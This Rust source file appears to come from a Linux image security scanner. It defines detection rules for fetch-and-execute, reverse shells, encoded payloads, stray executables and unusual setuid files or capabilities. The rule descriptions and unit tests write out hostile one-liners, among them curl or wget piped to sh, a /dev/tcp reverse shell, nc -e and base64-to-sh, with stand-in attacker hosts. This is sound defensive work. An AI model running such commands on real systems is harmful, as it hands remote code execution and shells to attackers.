//! Content: what persistence entries and stray scripts *do* — fetch and
//! execute, reverse shells, decode and execute, foreign URLs and IP
//! literals — plus executables in hidden or temporary places and setuid
//! files that should not be.
//!
//! Matching is plain substring and token logic on each line (no regular
//! expressions, no interpretation): bounded and predictable on hostile
//! text.

use qvet_inspect::linux::{Ownership, Persist};

use super::Guest;
use crate::finding::{Category, Confidence, Finding, Layer, Rule, Severity};

/// Downloads piped into an interpreter.
pub static FETCH_EXEC: Rule = Rule {
    id: "content-fetch-exec",
    title: "downloads code and runs it",
    severity: Severity::Critical,
    confidence: Confidence::High,
    category: Category::Content,
    layer: Layer::Content,
    doc: "A persistence entry or the script it runs downloads and executes (`curl … | sh`, `wget -O- \
          … | bash`, download then `chmod +x` and run): whoever controls the URL runs code on every \
          copy of the image, at every trigger.",
};
/// Reverse shells.
pub static REVERSE_SHELL: Rule = Rule {
    id: "content-reverse-shell",
    title: "opens a shell over the network",
    severity: Severity::Critical,
    confidence: Confidence::High,
    category: Category::Content,
    layer: Layer::Content,
    doc: "`/dev/tcp/`, `nc -e`, `ncat -e`, `socat … exec:`, `bash -i >&`, `mkfifo` with `nc`: an \
          interactive shell handed to a remote host.",
};
/// Decoded payloads executed.
pub static DECODE_EXEC: Rule = Rule {
    id: "content-decode-exec",
    title: "decodes a hidden payload and runs it",
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    category: Category::Content,
    layer: Layer::Content,
    doc:
        "`base64 -d | sh`, `eval $(echo … | base64 --decode)`, `openssl enc -d … | sh`: code kept \
          encoded so that it survives casual reading.",
};
/// URLs and IP literals in persistence.
pub static NETWORK_LITERAL: Rule = Rule {
    id: "content-network-literal",
    title: "persistence entry names a URL or IP address",
    severity: Severity::Medium,
    confidence: Confidence::Low,
    category: Category::Content,
    layer: Layer::Content,
    doc: "A URL or IP literal in an autostart entry or the script it runs, in a file no verified \
          package owns: a callback host, an update server of a repack, or a licence server. \
          Loopback and link-local addresses are not reported. Low where the image has no package \
          database (every vendor script is unowned there).",
};
/// Executables in hidden or temporary directories.
pub static STRAY_EXECUTABLE: Rule = Rule {
    id: "content-hidden-executable",
    title: "executable in a hidden or temporary directory",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    category: Category::Content,
    layer: Layer::Content,
    doc: "ELF binaries and scripts in /tmp, /var/tmp, /dev/shm or under a directory whose name starts \
          with a dot are where droppers and implants wait; nothing a distribution installs lives \
          there.",
};
/// setuid files outside system directories.
pub static SETID_ODD: Rule = Rule {
    id: "setid-unusual",
    title: "setuid or setgid file outside the system's own",
    severity: Severity::High,
    confidence: Confidence::Medium,
    category: Category::Privilege,
    layer: Layer::Content,
    doc: "A setuid/setgid file outside /bin, /sbin, /usr/bin, /usr/sbin, /usr/lib* and /usr/libexec, or \
          one there that no package owns (where a package database exists), is a privilege \
          escalation path someone added.",
};
/// A setuid copy of a shell.
pub static SETID_SHELL: Rule = Rule {
    id: "setid-shell",
    title: "setuid copy of a shell or interpreter",
    severity: Severity::Critical,
    confidence: Confidence::High,
    category: Category::Privilege,
    layer: Layer::Content,
    doc: "A setuid or setgid file whose bytes equal /bin/sh, bash, dash, busybox, python, perl or \
          another interpreter in the image gives a root shell to anyone who runs it.",
};

/// File capabilities.
pub static FILE_CAPABILITY: Rule = Rule {
    id: "setid-capability",
    title: "file with capabilities (privilege without the setuid bit)",
    severity: Severity::High,
    confidence: Confidence::Medium,
    category: Category::Privilege,
    layer: Layer::Content,
    doc: "A `security.capability` extended attribute gives a program privileges at exec as setuid \
          does, but `find -perm -4000` does not see it. High on a file no package owns or outside \
          the system directories; medium for a packaged file with a powerful capability \
          (cap_setuid, cap_sys_admin, cap_dac_override …: dpkg does not record capabilities, so \
          the package cannot vouch for it); info for packaged files with the narrow ones \
          distributions set themselves (ping's cap_net_raw).",
};

/// This family's rules.
pub static RULES: &[Rule] = &[
    FILE_CAPABILITY,
    FETCH_EXEC,
    REVERSE_SHELL,
    DECODE_EXEC,
    NETWORK_LITERAL,
    STRAY_EXECUTABLE,
    SETID_ODD,
    SETID_SHELL,
];

/// What one line of shell text does that matters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hit {
    /// Download and execute.
    FetchExec,
    /// Network shell.
    ReverseShell,
    /// Decode and execute.
    DecodeExec,
    /// A URL or IP literal (not loopback/link-local).
    NetworkLiteral,
}

impl Hit {
    /// The rule that reports this kind of hit.
    pub fn rule(self) -> &'static Rule {
        match self {
            Self::FetchExec => &FETCH_EXEC,
            Self::ReverseShell => &REVERSE_SHELL,
            Self::DecodeExec => &DECODE_EXEC,
            Self::NetworkLiteral => &NETWORK_LITERAL,
        }
    }
}

/// Lines scanned per text.
const MAX_SCAN_LINES: usize = 20_000;

fn words(line: &str) -> Vec<&str> {
    line.split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '(' | ')' | '`' | '"' | '\''))
        .filter(|w| !w.is_empty())
        .collect()
}

fn base_name(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

const FETCHERS: &[&str] = &["curl", "wget", "fetch", "tftp", "ftpget", "wget2"];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python3", "perl", "ruby", "php",
    "busybox",
];

/// What `line` does (each kind once).
pub fn scan_line(line: &str) -> Vec<Hit> {
    let mut hits = Vec::new();
    let t = line.trim();
    if t.starts_with('#') || t.is_empty() {
        return hits;
    }
    let lower = t.to_ascii_lowercase();
    let w = words(&lower);
    let has_fetch = w.iter().any(|x| FETCHERS.contains(&base_name(x)));
    // Pipes into an interpreter: split on '|' and look at the first word after.
    let piped_interp = lower.split('|').skip(1).any(|seg| {
        words(seg)
            .into_iter()
            .find(|x| !matches!(*x, "sudo" | "env" | "-"))
            .is_some_and(|x| INTERPRETERS.contains(&base_name(x)))
    });
    if has_fetch
        && (piped_interp
            || lower.contains("chmod +x")
            || lower.contains("chmod 7")
            || lower.contains("| source"))
    {
        hits.push(Hit::FetchExec);
    }
    if lower.contains("/dev/tcp/")
        || lower.contains("/dev/udp/")
        || ((w
            .iter()
            .any(|x| matches!(base_name(x), "nc" | "ncat" | "netcat")))
            && (w.contains(&"-e") || w.contains(&"-c") || lower.contains("mkfifo")))
        || (lower.contains("socat") && lower.contains("exec:"))
        || (lower.contains("bash -i") && lower.contains(">&"))
        || (lower.contains("socket")
            && (lower.contains("python") || lower.contains("perl -e"))
            && lower.contains("connect"))
    {
        hits.push(Hit::ReverseShell);
    }
    let decodes = lower.contains("base64 -d")
        || lower.contains("base64 --decode")
        || (lower.contains("openssl") && lower.contains(" -d"))
        || lower.contains("xxd -r");
    if decodes && (piped_interp || lower.contains("eval")) {
        hits.push(Hit::DecodeExec);
    }
    if has_network_literal(&lower) {
        hits.push(Hit::NetworkLiteral);
    }
    hits
}

/// A URL with a host, or a dotted-quad IPv4 literal, that is not loopback,
/// unspecified or link-local.
fn has_network_literal(line: &str) -> bool {
    for scheme in ["http://", "https://", "ftp://", "tftp://"] {
        let mut rest = line;
        while let Some(i) = rest.find(scheme) {
            let host: String = rest
                .get(i + scheme.len()..)
                .unwrap_or_default()
                .chars()
                .take_while(|c| {
                    c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '[' | ']' | ':')
                })
                .collect();
            let host = host.split(':').next().unwrap_or_default();
            if !host.is_empty()
                && host != "localhost"
                && !host.starts_with("127.")
                && !host.starts_with("[::1]")
            {
                return true;
            }
            rest = rest.get(i + scheme.len()..).unwrap_or_default();
        }
    }
    line.split(|c: char| !(c.is_ascii_digit() || c == '.'))
        .any(|tok| {
            let parts: Vec<&str> = tok.split('.').collect();
            parts.len() == 4
                && parts
                    .iter()
                    .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
                && !matches!(parts.first(), Some(&"127" | &"0" | &"255"))
                && !(parts.first() == Some(&"169") && parts.get(1) == Some(&"254"))
        })
}

/// Scans `text` (a command or a script) and returns each kind of hit with
/// its first line number (1-based) and text.
pub fn scan_text(text: &str) -> Vec<(Hit, usize, String)> {
    let mut out: Vec<(Hit, usize, String)> = Vec::new();
    for (i, line) in text.lines().take(MAX_SCAN_LINES).enumerate() {
        for h in scan_line(line) {
            if !out.iter().any(|(x, _, _)| *x == h) {
                out.push((h, i + 1, line.trim().chars().take(300).collect()));
            }
        }
    }
    out
}

/// Raises `f` to critical when `commands` download and run code, open a
/// network shell or decode and run a payload (a URL alone does not), with
/// the line that does it as evidence; appliance rules use it for what
/// EEM, event-handlers, boot scripts and schedulers run.
pub fn escalate(f: Finding, commands: &str) -> Finding {
    match scan_text(commands)
        .into_iter()
        .find(|(h, _, _)| *h != Hit::NetworkLiteral)
    {
        Some((h, _, line)) => f
            .severity(Severity::Critical)
            .evidence("content", format!("{}: {line}", h.rule().id)),
        None => f,
    }
}

/// Whether an entry's text is the vendor's: its file is packaged and verified.
fn vendor(p: &Persist) -> bool {
    p.verified
}

/// Runs the family.
pub fn check(g: &Guest<'_, '_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for p in &g.facts.persistence {
        let mut sources: Vec<(String, Option<usize>, String)> = Vec::new();
        if !vendor(p) {
            sources.push((p.path.clone(), p.line, p.text.clone()));
        }
        if let Some(prog) = &p.program {
            let prog_vendor = matches!(prog.owner, Ownership::Package(_))
                && prog
                    .resolved
                    .as_ref()
                    .is_some_and(|r| g.facts.verified(g.tree, r));
            if let (Some(script), false) = (&prog.script, prog_vendor) {
                let path = prog
                    .resolved
                    .as_deref()
                    .map(qvet_inspect::tree::shown)
                    .unwrap_or_else(|| prog.path.clone());
                sources.push((path, None, script.clone()));
            }
        }
        for (path, line, text) in sources {
            for (hit, n, excerpt) in scan_text(&text) {
                let at_line = line.or(Some(n));
                // Without a package database every vendor script is
                // "unowned": a URL alone is inventory there, not a sign.
                let severity = if hit == Hit::NetworkLiteral && g.facts.packages.manager.is_none() {
                    Severity::Low
                } else {
                    hit.rule().severity
                };
                out.push(
                    g.at(
                        hit.rule(),
                        &path,
                        format!("{} entry {}: {}", p.kind.name(), p.path, excerpt),
                    )
                    .severity(severity)
                    .line(at_line)
                    .evidence("line", excerpt)
                    .evidence(
                        "entry",
                        format!(
                            "{} {}{}",
                            p.kind.name(),
                            p.path,
                            p.line.map(|l| format!(":{l}")).unwrap_or_default()
                        ),
                    )
                    .evidence("owner", p.owner.describe()),
                );
            }
        }
    }
    for s in &g.facts.strays {
        // A packaged file that verifies is the distribution's, wherever it lives.
        if g.facts.verified(g.tree, s.path.as_bytes()) {
            continue;
        }
        // Hidden directories an appliance creates itself are its rules' to judge.
        let vendor = g.appliance.vendor_hidden(&s.path);
        let sev = if vendor {
            Severity::Info
        } else if s.what == "exec-bit" {
            Severity::Low
        } else {
            Severity::Medium
        };
        let mut f = g
            .at(
                &STRAY_EXECUTABLE,
                &s.path,
                format!("{} in a {}: {}", s.what, s.place, s.path),
            )
            .severity(sev)
            .evidence("kind", s.what)
            .evidence("size", s.size.to_string())
            .evidence("mode", format!("{:o}", s.mode));
        if vendor {
            f = f.evidence("place", "a hidden directory the appliance creates itself");
        }
        if s.what == "script" {
            if let Some(text) = g.tree.read(s.path.as_bytes(), 1 << 20).content() {
                let text = String::from_utf8_lossy(text);
                for (hit, n, excerpt) in scan_text(&text) {
                    out.push(
                        g.at(hit.rule(), &s.path, format!("script {}: {excerpt}", s.path))
                            .line(Some(n))
                            .evidence("line", excerpt),
                    );
                }
            }
            f = f.evidence("interpreter", "see content findings");
        }
        out.push(f);
    }
    check_caps(g, &mut out);
    const SYSTEM: &[&str] = &[
        "/bin/",
        "/sbin/",
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/lib/",
        "/usr/lib64/",
        "/usr/libexec/",
        "/lib/",
        "/lib64/",
        "/usr/local/bin/",
        "/usr/local/sbin/",
    ];
    for s in &g.facts.setid {
        let shell = s
            .sha256
            .as_ref()
            .and_then(|h| g.facts.interpreters.iter().find(|(_, ih)| ih == h));
        let bits = match (s.mode & 0o4000 != 0, s.mode & 0o2000 != 0) {
            (true, true) => "setuid+setgid",
            (true, false) => "setuid",
            _ => "setgid",
        };
        if let Some((ipath, _)) = shell {
            out.push(
                g.at(
                    &SETID_SHELL,
                    &s.path,
                    format!("{} is a {bits} copy of {ipath}", s.path),
                )
                .evidence("mode", format!("{:o}", s.mode))
                .evidence("uid", s.uid.to_string())
                .evidence("same-bytes-as", ipath)
                .evidence("sha256", s.sha256.clone().unwrap_or_default()),
            );
            continue;
        }
        let in_system = SYSTEM.iter().any(|d| s.path.starts_with(d));
        let unowned = matches!(s.owner, Ownership::Unowned);
        if !in_system || unowned {
            let why = if in_system {
                "no package owns it"
            } else {
                "outside the system directories"
            };
            out.push(
                g.at(&SETID_ODD, &s.path, format!("{bits} {}: {why}", s.path))
                    .evidence("mode", format!("{:o}", s.mode))
                    .evidence("uid", s.uid.to_string())
                    .evidence("owner", s.owner.describe()),
            );
        }
    }
    out
}

/// Capabilities distributions set on their own binaries (ping,
/// mtr-packet, gst-ptp-helper, dumpcap …).
const NARROW_CAPS: &[&str] = &[
    "cap_net_raw",
    "cap_net_bind_service",
    "cap_net_admin",
    "cap_ipc_lock",
    "cap_sys_nice",
];

fn check_caps(g: &Guest<'_, '_>, out: &mut Vec<Finding>) {
    const SYSTEM: &[&str] = &[
        "/usr/bin/",
        "/usr/sbin/",
        "/usr/lib/",
        "/usr/libexec/",
        "/bin/",
        "/sbin/",
        "/lib/",
    ];
    for c in &g.facts.caps {
        let narrow = c
            .permitted
            .iter()
            .all(|p| NARROW_CAPS.contains(&p.as_str()));
        let in_system = SYSTEM.iter().any(|d| c.path.starts_with(d));
        let severity = match (&c.owner, c.verified, narrow) {
            (Ownership::Unowned, _, _) => Severity::High,
            _ if !in_system => Severity::High,
            (Ownership::Package(_), true, true) => Severity::Info,
            (_, _, true) => Severity::Low,
            _ => Severity::Medium,
        };
        out.push(
            g.at(
                &FILE_CAPABILITY,
                &c.path,
                format!(
                    "{} has {}{}",
                    c.path,
                    c.permitted.join(","),
                    if c.effective { "+ep" } else { "+p" }
                ),
            )
            .severity(severity)
            .evidence("capabilities", c.permitted.join(", "))
            .evidence("effective", c.effective.to_string())
            .evidence("owner", c.owner.describe()),
        );
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
    use super::*;
    use crate::rules::testing::{findings, ids, Fixture};

    #[test]
    fn line_scanner() {
        assert_eq!(
            scan_line("curl -fsSL http://203.0.113.7/x.sh | sh"),
            vec![Hit::FetchExec, Hit::NetworkLiteral]
        );
        assert_eq!(
            scan_line("wget -qO- https://evil.example/p | sudo bash -s"),
            vec![Hit::FetchExec, Hit::NetworkLiteral]
        );
        assert_eq!(
            scan_line("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            vec![Hit::ReverseShell, Hit::NetworkLiteral]
        );
        assert_eq!(
            scan_line("echo aGk= | base64 -d | sh"),
            vec![Hit::DecodeExec]
        );
        assert_eq!(scan_line("nc -e /bin/sh host 1"), vec![Hit::ReverseShell]);
        assert!(scan_line("# curl http://x | sh").is_empty());
        assert!(scan_line("test -x /usr/sbin/anacron || run-parts /etc/cron.daily").is_empty());
        assert!(scan_line("curl -o /tmp/x http://127.0.0.1/").is_empty());
        assert!(scan_line("ping 169.254.1.1").is_empty());
        assert!(scan_line("version 1.2.3").is_empty());
    }

    fn base() -> Fixture {
        let mut f = Fixture::new();
        f.fs.file("/bin/sh", 0o755, b"\x7fELF-shell")
            .file("/usr/bin/passwd", 0o4755, b"\x7fELF-passwd")
            .file(
                "/etc/crontab",
                0o644,
                b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
            );
        f
    }

    #[test]
    fn clean_guest_has_no_content_findings() {
        assert!(findings(&base(), check).is_empty());
    }

    #[test]
    fn planted_content_is_found() {
        let mut f = base();
        f.fs.file(
            "/etc/cron.d/update",
            0o644,
            b"*/5 * * * * root /usr/local/bin/upd.sh\n",
        )
        .file(
            "/usr/local/bin/upd.sh",
            0o755,
            b"#!/bin/sh\ncurl -s http://198.51.100.4/a | sh\n",
        )
        .file("/var/tmp/.x/agent", 0o755, b"\x7fELF....")
        .file("/opt/rootme", 0o4755, b"\x7fELF-shell")
        .file("/home/u/tool", 0o4755, b"\x7fELF-tool");
        let got = findings(&f, check);
        let ids = ids(&got);
        assert_eq!(
            ids,
            vec![
                "content-fetch-exec",
                "content-network-literal",
                "content-hidden-executable",
                "setid-unusual",
                "setid-shell"
            ],
            "{got:#?}"
        );
        assert_eq!(got[0].path.as_deref(), Some("/usr/local/bin/upd.sh"));
        assert_eq!(got[0].line, Some(2));
        assert_eq!(got[4].path.as_deref(), Some("/opt/rootme"));
        assert_eq!(
            got[1].severity,
            Severity::Low,
            "no package database: a URL is inventory"
        );
        assert_eq!(got[0].severity, Severity::Critical);
    }
}
